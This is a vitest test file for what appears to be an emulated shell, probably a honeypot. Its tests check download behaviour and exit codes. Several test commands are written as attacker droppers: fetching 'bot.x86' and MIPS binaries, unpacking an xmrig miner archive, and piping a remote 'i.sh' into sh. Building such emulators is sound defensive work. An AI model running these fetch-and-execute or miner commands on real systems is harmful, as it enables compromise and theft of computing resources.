import { describe, expect, it } from 'vitest';
import { createTestHost, runCommand } from '../test-shell.ts';

describe('downloads', () => {
  it('bring the same file for the same URL, whatever fetches it', async () => {
    const { stdout } = await runCommand(
      'cd /tmp; wget -q http://198.51.100.9/bot.x86; curl -s http://198.51.100.9/bot.x86 -o second; cmp bot.x86 second && head -c4 bot.x86',
    );
    expect(stdout).toBe('\x7fELF');
  });

  it('bring a program of the machine type that a name promises', async () => {
    const { stdout } = await runCommand('cd /tmp; wget -q http://198.51.100.9/b.mips; file -b b.mips | cut -d, -f1-2');
    expect(stdout).toBe('ELF 32-bit MSB executable, MIPS\n');
  });

  it('are refused by ports of the machine itself that nothing listens on', async () => {
    const { stderr, exitCode } = await runCommand('curl -sS http://127.0.0.1:81/');
    expect({ stderr, exitCode }).toEqual({
      stderr: "curl: (7) Failed to connect to 127.0.0.1 port 81 after 0 ms: Couldn't connect to server\n",
      exitCode: 7,
    });
  });

  it('find no host that cannot have an address', async () => {
    const { stderr, exitCode } = await runCommand('wget -nv http://payload.invalid/x');
    expect({ stderr, exitCode }).toEqual({
      stderr: "wget: unable to resolve host address 'payload.invalid'\n",
      exitCode: 4,
    });
  });

  it('do not overwrite what is there', async () => {
    const { stdout } = await runCommand(
      'cd /tmp; wget -q http://x.example.com/a.sh; wget -q http://x.example.com/a.sh; ls a.sh*',
    );
    expect(stdout).toBe('a.sh\na.sh.1\n');
  });

  it('unpack as the archives that they are', async () => {
    const { stdout } = await runCommand(
      'cd /tmp; curl -sO http://198.51.100.9/xmrig.tar.gz; tar xzf xmrig.tar.gz; ls xmrig',
    );
    expect(stdout).toBe('config.json\nxmrig\n');
  });

  it('go through a pipe into a shell without a trace', async () => {
    expect(await runCommand('wget -qO- http://198.51.100.9/i.sh | sh')).toMatchObject({
      stdout: '',
      stderr: '',
      exitCode: 0,
    });
  });

  it('stop a service and its port answers no longer', async () => {
    const host = createTestHost();
    await runCommand('systemctl stop nginx', { host });
    expect((await runCommand('curl -s http://127.0.0.1/; echo $?; ss -tln | grep -c :80', { host })).stdout).toBe(
      '7\n0\n',
    );
  });
});
